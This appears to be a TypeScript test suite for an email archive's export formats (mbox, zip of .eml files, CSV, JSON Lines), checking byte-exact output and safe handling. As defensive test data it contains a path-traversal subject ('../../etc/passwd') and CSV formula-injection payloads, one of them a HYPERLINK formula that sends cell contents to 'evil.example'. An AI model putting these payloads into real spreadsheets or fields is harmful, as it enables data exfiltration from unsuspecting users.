/** What a search finds leaves the trove byte for byte, in forms that other programs read. */
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { readdirSync, writeFileSync } from 'node:fs';
import { mkdir } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, type TestContext, test } from 'node:test';
import { fromBuffer } from 'yauzl';
import { csvLine } from '../../src/export/csv.js';
import { CatalogReader } from '../../src/store/catalog-reader.js';
import { openTrove } from '../../src/store/trove.js';
import { impart, jsonLines, tempDir } from '../impart.js';
import { letter, manyLetters } from '../mail.js';

const sha256 = (bytes: string | Buffer): string => createHash('sha256').update(bytes).digest('hex');

/** Messages that an mbox writer gets wrong. */
const awkward: readonly string[] = [
  letter({
    id: 'a@x',
    body: 'From the start\n>From here\n>>From there\n > From\nFrom\n\nFrom x@y Mon Mar  7 10:00:00 2016\n',
  }),
  letter({ id: 'b@x', body: 'One line.\n\n\n\n' }),
  letter({ id: 'c@x', body: 'CRLF\n\nFrom the sea\n>From\n' }).replaceAll('\n', '\r\n'),
  letter({ id: 'd@x', extra: ['Content-Length: 9999'], body: 'Short.\n' }),
  letter({
    id: 'e@x',
    extra: ['Content-Length: 5'],
    body: 'Long.\n\nFrom a@b Mon Mar  7 10:00:00 2016\nSubject: x\n\ny\n',
  }),
  `>From a@b Mon Mar  7 10:00:00 2016\n${letter({ id: 'g@x' })}`,
  letter({ id: 'h@x', body: 'bytes \u0000\u00ff\u0080\n\r\r\n' }),
];

/** A trove of single files, so that no mbox has touched their bytes before. */
async function troveOf(t: TestContext, messages: readonly string[]): Promise<string> {
  const dir = tempDir(t);
  await mkdir(join(dir, 'mail'));
  for (const [at, message] of messages.entries())
    writeFileSync(join(dir, 'mail', `${String(at).padStart(4, '0')}.eml`), message, 'latin1');
  const trove = join(dir, 'x.trove');
  assert.equal(impart('receive', join(dir, 'mail'), '--trove', trove).status, 0);
  return trove;
}

function hashesIn(trove: string): string[] {
  const catalog = new CatalogReader(openTrove(trove));
  const count = catalog.messageCount();
  const hashes = Array.from({ length: count }, (_, at) => catalog.findMessage(at + 1)?.sha256 ?? '');
  catalog.close();
  return hashes.sort();
}

describe('an mbox of a result', () => {
  test('received again gives the same messages, to the byte', async (t) => {
    const trove = await troveOf(t, awkward);
    assert.deepEqual(
      hashesIn(trove),
      awkward.map((message) => sha256(Buffer.from(message, 'latin1'))).sort(),
    );
    const mbox = join(tempDir(t), 'all.mbox');
    const run = impart('export', '--format', 'mbox', '--output', mbox, '--trove', trove);
    assert.equal(run.status, 0, run.stderr);
    const again = join(tempDir(t), 'again.trove');
    impart('receive', mbox, '--trove', again);
    assert.deepEqual(hashesIn(again), hashesIn(trove));
  });

  test('is read by Python, message by message', async (t) => {
    const trove = await troveOf(t, manyLetters(50));
    const mbox = join(tempDir(t), 'all.mbox');
    impart('export', '--format', 'mbox', '--output', mbox, '--trove', trove);
    const python = spawnSync('python3', [
      '-c',
      'import mailbox, sys, hashlib\nfor m in mailbox.mbox(sys.argv[1]).iterkeys():\n print(hashlib.sha256(mailbox.mbox(sys.argv[1]).get_bytes(m)).hexdigest())',
      mbox,
    ]);
    if (python.error !== undefined) {
      t.skip('no python3');
      return;
    }
    assert.deepEqual(python.stdout.toString().trim().split('\n').sort(), hashesIn(trove));
  });

  test('says which message has no line end at its end, because an mbox adds one', async (t) => {
    const trove = await troveOf(t, [...awkward, letter({ id: 'z@x', body: 'No end' })]);
    const run = impart('export', '--format', 'mbox', '--trove', trove);
    assert.equal(run.status, 3);
    assert.match(run.stderr, /message 8 \([0-9a-f]{12}\): ends without a line end/);
    assert.match(run.stderr, /8 messages, 1 of them not as they were received/);
  });
});

/** Entries of a zip, read by a library that did not write it. */
function entriesOf(zip: Buffer): Promise<Map<string, Buffer>> {
  return new Promise((resolve, reject) => {
    const entries = new Map<string, Buffer>();
    fromBuffer(zip, { lazyEntries: true }, (error, file) => {
      if (error !== null) return reject(error);
      file.on('end', () => resolve(entries));
      file.on('entry', (entry) => {
        file.openReadStream(entry, (failure, stream) => {
          if (failure !== null) return reject(failure);
          const parts: Buffer[] = [];
          stream.on('data', (part: Buffer) => parts.push(part));
          stream.on('end', () => {
            entries.set(entry.fileName, Buffer.concat(parts));
            file.readEntry();
          });
        });
      });
      file.readEntry();
    });
  });
}

describe('a zip of a result', () => {
  test('holds each message as it was received, under a name of our own, with its SHA-256', async (t) => {
    const trove = await troveOf(t, [
      ...awkward,
      letter({ id: 'z@x', subject: '../../etc/passwd', body: 'No end' }),
    ]);
    const zip = impart('export', '--format', 'eml-zip', '--trove', trove).bytes;
    const entries = await entriesOf(zip);
    const manifest = entries.get('manifest-sha256.txt')?.toString() ?? '';
    entries.delete('manifest-sha256.txt');
    assert.deepEqual([...entries.values()].map(sha256).sort(), hashesIn(trove));
    for (const [name, bytes] of entries) {
      assert.match(name, /^messages\/\d{7}-[0-9a-f]{12}\.eml$/);
      assert.ok(manifest.includes(`${sha256(bytes)}  ${name}\n`));
    }
    assert.equal(manifest.trim().split('\n').length, entries.size);
  });

  test('of a query holds what the query finds and nothing else', async (t) => {
    const trove = await troveOf(t, manyLetters(60));
    const found = jsonLines(impart('search', 'from:"Clerk 3"', '--json', '--trove', trove)).map(
      (hit) => hit.sha256,
    );
    const entries = await entriesOf(
      impart('export', 'from:"Clerk 3"', '--format', 'eml-zip', '--trove', trove).bytes,
    );
    entries.delete('manifest-sha256.txt');
    assert.ok(found.length > 0 && found.length < hashesIn(trove).length);
    assert.deepEqual([...entries.values()].map(sha256).sort(), [...found].sort());
  });

  test('goes on where the bytes of a message are gone, and says so inside', async (t) => {
    const trove = await troveOf(t, awkward);
    const originals = join(trove, 'originals');
    const [folder = ''] = readdirSync(originals).filter((name) => name !== 'incoming');
    const [tar = ''] = readdirSync(join(originals, folder));
    spawnSync('rm', ['-f', join(originals, folder, tar)]);
    const run = impart('export', '--format', 'eml-zip', '--trove', trove);
    assert.equal(run.status, 3);
    const entries = await entriesOf(run.bytes);
    assert.match(
      entries.get('not-exported.txt')?.toString() ?? '',
      /^1\t[0-9a-f]{64}\tthe bytes of message 1/,
    );
    assert.equal(entries.get('manifest-sha256.txt')?.toString(), '');
  });
});

describe('a table of a result', () => {
  test('runs no formula, in whatever dress it comes', () => {
    for (const cell of [
      '=1+1',
      '+1',
      '-1',
      '@SUM(A1)',
      ' =1',
      '\t=1',
      '\u200b=1',
      '＝1',
      '\ufeff@x',
      '\r=1',
      '\n-2',
    ])
      assert.match(csvLine([cell]), /^"?'/, JSON.stringify(cell));
    for (const cell of ['plain', 'a=b', '3-4', 'a@b.example']) assert.equal(csvLine([cell]), `${cell}\r\n`);
    assert.equal(csvLine(['a "b", c', 'd\ne', -5, undefined]), '"a ""b"", c","d\ne",-5,\r\n');
  });

  test('has a line for each message, also for one whose subject means harm', async (t) => {
    const subject = '=HYPERLINK("https://evil.example/?"&A2,"x"),\r\n "y"';
    const trove = await troveOf(t, [
      letter({ id: 'a@x', subject: subject.replace('\r\n', '\n') }),
      letter({ id: 'b@x' }),
    ]);
    const { stdout } = impart('export', '--format', 'csv', '--trove', trove);
    const python = spawnSync(
      'python3',
      ['-c', 'import csv, sys, json\nprint(json.dumps(list(csv.reader(sys.stdin))))'],
      {
        input: stdout,
      },
    );
    if (python.error !== undefined) {
      t.skip('no python3');
      return;
    }
    const rows = JSON.parse(python.stdout.toString()) as string[][];
    assert.equal(rows.length, 3);
    assert.match(rows[1]?.[7] ?? '', /^'=HYPERLINK/);
    assert.deepEqual(new Set(rows.map((row) => row.length)), new Set([14]));
  });

  test('as JSON Lines holds what show prints', async (t) => {
    const trove = await troveOf(t, [letter({ id: 'a@x' })]);
    const [line] = jsonLines(impart('export', '--format', 'jsonl', '--trove', trove));
    const [shown] = jsonLines(impart('show', '1', '--json', '--trove', trove));
    assert.deepEqual(line, { ...shown, tags: [], notes: [] });
  });
});
